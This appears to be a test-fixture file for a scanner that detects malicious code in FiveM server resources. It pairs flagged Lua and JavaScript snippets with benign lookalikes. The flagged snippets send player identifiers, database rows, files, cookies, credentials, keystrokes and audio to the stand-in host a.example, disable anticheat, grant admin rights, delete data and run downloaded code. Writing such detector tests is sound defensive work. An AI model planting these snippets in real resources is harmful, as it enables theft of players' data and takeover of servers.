import { js, lua, type Fixture } from './fixture.ts'

export const dataFixtures: Fixture[] = [
  lua(
    'lowers-protection',
    `^SetConvar('rcon_password', 'secret')`,
    `SetConvar('garage_limit', '5')\nSetConvarReplicated('locale', 'en')`,
  ),
  lua(
    'lowers-protection',
    `local names = { 'anticheese', 'garage' }\nfor _, name in ipairs(names) do\n^ StopResource(name)\nend`,
    `if hasAntiCheat('anticheese') then StopResource(GetCurrentResourceName()) end`,
  ),
  js('lowers-protection', `^ExecuteCommand('stop my-anticheat')`, `ExecuteCommand('stop my-garage')`),
  lua(
    'sends-data',
    `local ids = GetPlayerIdentifiers(source)\n^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`,
    `local ids = GetPlayerIdentifiers(source)\nPerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`,
  ),
  lua(
    'sends-data',
    `local ids = GetPlayerIdentifiers(source)\n^PerformHttpRequest('https://a.example?ids=' .. table.concat(ids), print)`,
    `local ip = GetPlayerEndpoint(source)\nPerformHttpRequest('https://proxycheck.io/v2/' .. ip, print)`,
  ),
  lua(
    'sends-data',
    `MySQL.query('SELECT * FROM users', {}, function(rows)\n^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))\nend)`,
    `MySQL.query('SELECT * FROM users', {}, function(rows)\n  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))\nend)`,
  ),
  js(
    'sends-data',
    `const fs = require('fs')\nfor (const name of fs.readdirSync('.'))\n^ fetch('https://a.example', { method: 'POST', body: fs.readFileSync(name) })`,
    `const fs = require('fs')\nfetch('https://a.example', { method: 'POST', body: fs.readFileSync('names.json') })`,
  ),
  js(
    'sends-data',
    `^navigator.sendBeacon('https://a.example', document.cookie)`,
    `fetch('https://garage/save', { method: 'POST', body: localStorage.getItem('theme') })`,
    'page',
  ),
  js(
    'sends-data',
    `const image = new Image()\n^image.src = 'https://a.example/a.gif?' + localStorage.getItem('token')`,
    `const image = new Image()\nimage.src = 'https://a.example/' + name + '.gif'`,
    'page',
  ),
  js(
    'sends-data',
    `addEventListener('keydown', (event) => {\n^ fetch('https://a.example', { method: 'POST', body: event.key })\n})`,
    `addEventListener('keydown', (event) => {\n  fetch('https://garage/close', { method: 'POST', body: event.key })\n})`,
    'page',
  ),
  lua(
    'webhook',
    `local hook = ('https://%s/api/webhooks/%s'):format('discord.com', '123456789012345678/abcdef')\n^PerformHttpRequest(hook, print)`,
    `local hook = ('https://%s/api/%s'):format('discord.com', 'gateway')\nPerformHttpRequest(hook, print)`,
  ),
  lua(
    'grants-rights',
    `^QBCore.Functions.AddPermission(source, 'god')`,
    `QBCore.Functions.AddPermission(source, args[2])`,
  ),
  lua(
    'grants-rights',
    `if id == 'license:0123456789abcdef' then\n^ player.addAccountMoney('bank', 5000000)\nend`,
    `player.addAccountMoney('bank', 500)`,
  ),
  lua(
    'writes-other-resource',
    `^os.remove(GetResourcePath(GetResourceByFindIndex(0)) .. '/fxmanifest.lua')`,
    `os.remove(GetResourcePath(GetCurrentResourceName()) .. '/cache.json')`,
  ),
  js(
    'writes-other-resource',
    `^require('fs').rmSync(GetResourcePath('garage'))`,
    `require('fs').rmSync('cache.json')`,
  ),
  lua(
    'grants-rights',
    `^MySQL.update('UPDATE users SET \`group\` = ? WHERE identifier = ?', { 'superadmin', id })`,
    `MySQL.update('UPDATE users SET \`group\` = ? WHERE identifier = ?', { 'user', id })`,
  ),
  lua(
    'deletes-data',
    `^MySQL.query('DELETE FROM players')`,
    `MySQL.query('DELETE FROM players WHERE last_seen < ?', { time })`,
  ),
  lua('stops-server', `if isLate then\n^ while true do end\nend`, `while true do Wait(0) end`),
  js('stops-server', `^for (;;) {}`, `do { if (isDone()) break } while (true);`),
  lua('process', `^package.loadlib(path, 'open')`, `package.path = path`),
  js('process', `^process.dlopen(module, path)`, `process.emit('done', path)`),
  lua(
    'sends-data',
    `RegisterNetEvent('login', function(user, pass)\n^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, pass }))\nend)`,
    `RegisterNetEvent('login', function(user, time)\n  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, time }))\nend)`,
  ),
  js(
    'sends-data',
    `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {\n  const recorder = new MediaRecorder(stream)\n^ recorder.ondataavailable = ({ data }) => fetch('https://a.example', { body: data })\n})`,
    `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => play(stream))\nfetch('https://a.example', { body: name })`,
    'page',
  ),
  js('remote-page', `^window.location.href = 'https://a.example'`, `link.href = 'https://a.example'`, 'page'),
  js(
    'sends-data',
    `let typed = ''\ndocument.onkeypress = (event) => {\n  typed += event.key\n^ new Image().src = 'https://a.example/?' + typed\n}`,
    `document.onkeypress = (event) => show(event.key)\nnew Image().src = 'https://a.example/?' + theme`,
    'page',
  ),
  js(
    'remote-page',
    `^app.innerHTML = '<object data="https://a.example/frame"></object>'`,
    `app.innerHTML = '<object data="frame.html"></object>'`,
    'page',
  ),
  js(
    'grants-rights',
    `^exports.oxmysql.execute('UPDATE players SET metadata = ? WHERE license = ?', [data, 'license:0123456789abcdef'])`,
    `exports.oxmysql.execute('SELECT name FROM players WHERE license = ?', ['license:0123456789abcdef'])`,
  ),
  js('remote-page', `^location.replace('https://a.example')`, `location.replace('menu.html')`, 'page'),
  js(
    'runs-downloaded-code',
    `const text = "importScripts('https://a.example/a.js')"\n^new Worker(URL.createObjectURL(new Blob([text])))`,
    `const text = "importScripts('a.js')"\nnew Worker(URL.createObjectURL(new Blob([text])))`,
    'page',
  ),
  js(
    'runs-downloaded-code',
    `const make = Reflect.getPrototypeOf(async () => 0).constructor\n^fetch(url).then((r) => r.text()).then((text) => Reflect.construct(make, ['require', text]))`,
    `fetch(url).then((r) => r.text()).then((text) => Reflect.construct(Map, [['text', text]]))`,
  ),
]
